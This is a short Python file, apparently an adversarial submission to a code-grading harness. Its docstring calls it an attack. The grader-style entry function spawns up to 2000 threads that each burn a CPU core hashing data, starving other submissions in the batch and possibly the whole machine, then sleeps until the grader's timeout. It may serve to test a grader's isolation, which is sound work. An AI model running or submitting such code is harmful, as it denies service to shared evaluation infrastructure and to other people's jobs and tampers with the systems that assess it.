"""Attack: as many threads as it can start, each burning a CPU core, to starve the submissions
graded in the batch's other slots (and, at scale, the whole machine).

Prints how many threads it got, then burns until the grader's timeout.
"""
import hashlib
import threading
import time


GO = threading.Event()


def _burn():
    block = b"x" * (1 << 20)
    GO.wait()  # all of them at once, once started (starting threads needs the GIL they would fight for)
    while True:
        hashlib.sha256(block).digest()  # releases the GIL: every thread keeps a core busy


def backward_atomic(**fwd):
    started = 0
    try:
        for _ in range(2000):
            threading.Thread(target=_burn, daemon=True).start()
            started += 1
    except RuntimeError:  # "can't start new thread"
        pass
    print("THREADS", started, flush=True)
    GO.set()
    time.sleep(3600)
